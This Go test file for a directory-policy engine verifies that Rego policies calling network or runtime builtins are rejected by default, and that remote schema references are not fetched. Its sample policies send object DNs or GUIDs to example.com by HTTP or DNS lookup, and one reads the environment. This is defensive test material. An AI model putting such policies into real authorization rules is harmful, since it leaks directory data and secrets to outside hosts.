package policy_test

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"testing/fstest"

	"github.com/dirgate/dirgate"
	"github.com/dirgate/dirgate/policy"
	"github.com/dirgate/dirgate/policy/candidate"
	"github.com/dirgate/dirgate/policy/internal/policytest"
)

// outsidePolicies call a builtin that reaches outside dirgate: each could carry
// input.object's properties to whoever answers (an HTTP request, a DNS query) or
// read the process's environment.
var outsidePolicies = map[string]string{
	"http.send":          "package dirgate.authz\nallow if http.send({\"method\": \"get\", \"url\": sprintf(\"https://example.com/%s\", [input.object.dn])}).status_code == 200\n",
	"net.lookup_ip_addr": "package dirgate.authz\nallow if count(net.lookup_ip_addr(sprintf(\"%s.example.com\", [input.object.guid]))) > 0\n",
	"opa.runtime":        "package dirgate.authz\nallow if opa.runtime().env.HOME != \"\"\n",
}

// TestPolicyOutsideBuiltins: a policy calling http.send, net.lookup_ip_addr or
// opa.runtime does not compile, from a directory or delivered (bundles), and a
// candidate calling one is refused; with NetworkBuiltins each loads.
func TestPolicyOutsideBuiltins(t *testing.T) {
	ctx := context.Background()
	for name, module := range outsidePolicies {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			policytest.WriteFile(t, filepath.Join(dir, "authz.rego"), module)
			_, err := policy.Open(ctx, policy.Config{Dir: dir, Logger: policytest.QuietLogger()})
			if err == nil || !strings.Contains(err.Error(), name) {
				t.Errorf("a policy directory calling %s: Open = %v, want a compile error naming it", name, err)
			}
			files := fstest.MapFS{"authz.rego": {Data: []byte(module)}}
			if _, err := policy.Open(ctx, policy.Config{Files: files, Source: "bundles", Logger: policytest.QuietLogger()}); err == nil {
				t.Errorf("delivered files calling %s loaded", name)
			}
			a, err := policy.Open(ctx, policy.Config{Dir: dir, Logger: policytest.QuietLogger(), NetworkBuiltins: true})
			if err != nil {
				t.Fatalf("with NetworkBuiltins: %v", err)
			}
			a.Close()

			good := t.TempDir()
			policytest.WriteFile(t, filepath.Join(good, "authz.rego"), policytest.AllowUsers)
			cfg, cand := policytest.Shadowed(t, policy.Config{Dir: good, Logger: policytest.QuietLogger()},
				candidate.Config{Files: files, Source: "candidate"})
			a, err = policy.Open(ctx, cfg)
			if err != nil {
				t.Fatal(err)
			}
			defer a.Close()
			if st := cand.Status(); !strings.Contains(st.LastError, name) {
				t.Errorf("candidate calling %s: status %+v, want its compile error", name, st)
			}
		})
	}
}

// TestPolicySchemaFetch: json.match_schema stays, but a remote $ref is not
// fetched: no host is allowed (with NetworkBuiltins it is).
func TestPolicySchemaFetch(t *testing.T) {
	var fetched atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fetched.Add(1)
		fmt.Fprint(w, `{"type": "object"}`)
	}))
	defer srv.Close()
	module := fmt.Sprintf("package dirgate.authz\nallow if {\n\t[ok, _] := json.match_schema({}, {\"$ref\": \"%s/%%s.json\"})\n\tok\n}\n", srv.URL)
	module = strings.Replace(module, "%s.json", "schema.json", 1)
	for _, network := range []bool{false, true} {
		dir := t.TempDir()
		policytest.WriteFile(t, filepath.Join(dir, "authz.rego"), module)
		a, err := policy.Open(context.Background(), policy.Config{Dir: dir, Logger: policytest.QuietLogger(), NetworkBuiltins: network})
		if err != nil {
			t.Fatal(err)
		}
		before := fetched.Load()
		_, _ = a.FilterView(context.Background(), dirgate.Principal{}, dirgate.Object{}, dirgate.ListOptions{},
			[]dirgate.Object{policytest.ReloadUser})
		if got := fetched.Load() - before; (got > 0) != network {
			t.Errorf("NetworkBuiltins %v: the schema was fetched %d times", network, got)
		}
		a.Close()
	}
}
